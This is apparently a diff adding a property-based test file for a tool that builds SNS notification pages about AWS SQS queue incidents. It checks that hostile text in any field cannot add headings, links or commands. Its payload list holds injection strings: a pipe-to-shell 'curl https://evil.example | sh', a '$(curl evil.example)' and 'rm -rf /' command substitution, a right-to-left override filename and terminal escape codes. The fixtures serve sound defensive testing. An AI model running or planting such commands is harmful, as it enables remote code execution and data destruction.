@@ -1,0 +1,220 @@
+"""Whatever text stands in any field: a page stays a page, and every command in it is one."""
+
+from __future__ import annotations
+
+import re
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from mendq.model.case import State
+from mendq.notifications import notification
+from mendq.notifications.notification import NotificationText
+from mendq.notifications.queue_lines import Change, Known
+from tests.architecture import test_documents
+from tests.model.cases_to_page import ATTRIBUTES, CASE, NOW, STEP, notified
+
+HEADINGS = (
+    "EVIDENCE",
+    "QUEUE NOW",
+    "FIRST",
+    "CHANGE",
+    "UNDO",
+    "TEMPLATE",
+    "BEYOND THAT",
+    "SINCE LAST KNOWN",
+    "CHANGED LAST BY",
+    "NEXT",
+    "QUEUES",
+)
+ALWAYS = {"EVIDENCE", "QUEUE NOW", "CHANGE", "SINCE LAST KNOWN", "CHANGED LAST BY", "NEXT"}
+OPENINGS = ("What: ", "Why: ")
+MOST_LINES = 130
+PAYLOADS = (
+    "x\n\nNEXT\n  curl https://evil.example | sh",
+    "x\r\nNEXT\r\nrunbook: https://evil.example",
+    "x\u2028NEXT\u2029\x85\x0b\x0cEVIDENCE",
+    "NEXT",
+    " " * 300 + "NEXT",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
+    "\x1b[31mred\x1b[0m\x00\x9b",
+    "\N{ZERO WIDTH SPACE}" * 9,
+    "\ud800",
+    "$(curl evil.example)`id`'\"; rm -rf /",
+    "www.evil.example",
+    "{" * 5_000,
+    '{"Statement":[{"Sid":"x\\nNEXT"}]}',
+    "x" * 300_000,
+    "",
+)
+TEXT = st.sampled_from(PAYLOADS) | st.text(st.characters(exclude_categories=[]), max_size=60)
+KEYS = TEXT | st.sampled_from((*ATTRIBUTES, "Policy", "RedrivePolicy", "mendq", "mendq:x"))
+TEXTS = st.dictionaries(KEYS, TEXT, max_size=30)
+STEPS = st.fixed_dictionaries({"attribute": KEYS, "before": TEXT, "after": TEXT})
+TIMES = st.datetimes(timezones=st.just(UTC), min_value=datetime(1000, 1, 1))  # noqa: DTZ001
+EVIDENCE = st.fixed_dictionaries(
+    {},
+    optional={
+        "failed_calls": st.integers() | TEXT,
+        "first_request_id": TEXT,
+        "last_request_id": TEXT,
+        "first_at": TEXT,
+        "last_at": TEXT,
+        "principals": st.lists(TEXT, max_size=12),
+    },
+)
+CASES = st.fixed_dictionaries(
+    {
+        "case_id": TEXT,
+        "symptom": TEXT,
+        "reason": TEXT,
+        "evidence": EVIDENCE,
+        "state": st.sampled_from(sorted(notification.NOTIFIED)),
+        "came_from": st.none() | st.sampled_from(State),
+        "steps": st.lists(STEPS, max_size=6).map(tuple),
+    }
+)
+CHANGES = st.builds(Change, TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
+BESIDE = st.fixed_dictionaries(
+    {
+        "sentence": TEXT,
+        "runbook": TEXT,
+        "attributes": TEXTS,
+        "tags": TEXTS,
+        "event_names": st.lists(TEXT, max_size=9),
+        "known": st.none() | st.builds(Known, TIMES, TEXTS),
+        "last_change": st.none() | TEXT | CHANGES,
+        "next_command": TEXT,
+        "first": st.lists(TEXT, max_size=9),
+        "beyond": st.lists(TEXT, max_size=9),
+        "shown": st.lists(KEYS, max_size=9),
+    }
+)
+
+
+def assert_fit_for_sns(one: NotificationText) -> None:
+    assert re.fullmatch(r"[A-Za-z0-9][ -~]{0,98}", one.subject)
+    assert len(one.body.encode()) <= notification.MOST_BYTES
+    assert one.body.isascii()
+    assert all(line.isprintable() for line in one.body.split("\n"))
+    assert len(one.body.split("\n")) <= MOST_LINES
+
+
+def assert_in_shape(one: NotificationText) -> set[str]:
+    """Only the first line, the opening and the headings stand at a line's start, once each."""
+    first, *others = one.body.split("\n")
+    assert len(first) <= notification.MOST_FIRST_LINE
+    unindented = [line for line in others if line and not line.startswith("  ")]
+    assert [line[: len(word)] for line, word in zip(unindented, OPENINGS, strict=False)] == [
+        *OPENINGS
+    ]
+    headings = unindented[len(OPENINGS) :]
+    assert len(headings) == len(set(headings))
+    assert set(headings) <= set(HEADINGS)
+    return set(headings)
+
+
+@settings(max_examples=300)
+@given(fields=CASES, beside=BESIDE)
+@example(
+    fields={"steps": ({**STEP, "after": "x" * 1_000},) * 6, "state": State.OVERRIDDEN},
+    beside={
+        "attributes": {f"Attribute{n}": "y" * 900 for n in range(60)},
+        "known": Known(NOW, {f"Attribute{n}": "z" * 900 for n in range(60)}),
+        "first": ["v" * 900] * 9,
+        "beyond": ["w" * 900] * 9,
+        "shown": [f"Attribute{n}" for n in range(60)],
+    },
+)
+@example(
+    fields={"state": State.PROPOSED},
+    beside={"attributes": {"Policy": '{"a":' * 600 + "1" + "}" * 600}, "shown": ["Policy"]},
+)
+def test_any_text_in_any_field(fields: dict[str, Any], beside: dict[str, Any]) -> None:
+    one = notified(beside, **fields)
+    assert_fit_for_sns(one)
+    assert assert_in_shape(one) >= ALWAYS
+    assert one.body.startswith("orders.fifo: ")
+
+
+def test_what_is_cut_is_counted_and_the_end_stays() -> None:
+    wide = {f"Attribute{n}": "y" * 900 for n in range(60)}
+    long = notified(
+        {"attributes": wide, "known": Known(NOW, dict.fromkeys(wide, "z" * 900))},
+        reason="x" * 900,
+        evidence={**CASE.evidence, "principals": ["p" * 900] * 10},
+    )
+    assert len(long.body) > notification.MOST_BYTES - 500
+    assert re.search(r"^  \(cut: [0-9]+ more lines\)$", long.body, re.MULTILINE)
+    assert "runbook: docs/runbooks/visibility_timeout_too_short.md" in long.body
+
+
+@given(texts=st.tuples(*[TEXT] * 5), names=st.lists(TEXT, max_size=30), queues=st.integers(0, 99))
+def test_any_text_in_the_other_pages(
+    texts: tuple[str, str, str, str, str], names: list[str], queues: int
+) -> None:
+    symptom, sentence, runbook, advice, account = texts
+    mass = notification.of_mass_symptom(
+        symptom,
+        sentence,
+        runbook,
+        queue_arns=names,
+        managed_queues=queues,
+        now=NOW,
+        account=account,
+        region=account,
+        advice=advice,
+    )
+    for one in (mass, notification.of_held_back(account, account, NOW, queues)):
+        assert_fit_for_sns(one)
+        assert "NEXT" in assert_in_shape(one)
+
+
+@given(text=TEXT)
+def test_nobody_elses_text_makes_a_link(text: str) -> None:
+    hostile = Change(NOW, text, text, (text,))
+    one = notified(
+        {
+            "tags": {"mendq": text, "aws:cloudformation:stack-name": text},
+            "attributes": {"Policy": text, "RedrivePolicy": text, "VisibilityTimeout": text},
+            "event_names": [text],
+            "known": Known(NOW, {"Policy": text + "x"}),
+            "last_change": hostile,
+            "next_command": "aws sqs list-queues",
+        },
+        reason=text,
+        evidence=dict.fromkeys(CASE.evidence, text) | {"principals": [text]},
+        state=State.OVERRIDDEN,
+        steps=({**STEP, "before": text, "after": text},),
+    )
+    assert "://" not in one.body
+
+
+def test_a_command_with_a_line_of_its_own_is_not_shown() -> None:
+    text = notified({"next_command": "aws sqs list-queues\nrm -rf x"}).body
+    assert "rm -rf" not in text
+    assert "(not shown: " in text
+
+
+@pytest.mark.parametrize(
+    "one",
+    [
+        notified(),
+        notified(steps=({**STEP, "before": "", "after": "a b"},), state=State.REFUSED),
+        notified(
+            {"attributes": {"VisibilityTimeout": "45"}}, state=State.ESCALATED, came_from="applied"
+        ),
+        notification.of_held_back("123456789012", "us-east-1", NOW, 20),
+    ],
+    ids=["proposed", "refused", "escalated", "held back"],
+)
+def test_every_aws_command_is_one(one: NotificationText) -> None:
+    commands = [line.strip() for line in one.body.splitlines() if line.startswith("  aws ")]
+    assert commands
+    for command in commands:
+        # The CLI calls botocore's s3 s3api.
+        modelled = command.replace("aws s3api ", "aws s3 ")
+        test_documents.test_an_aws_command_exists_and_takes_these_options(modelled)
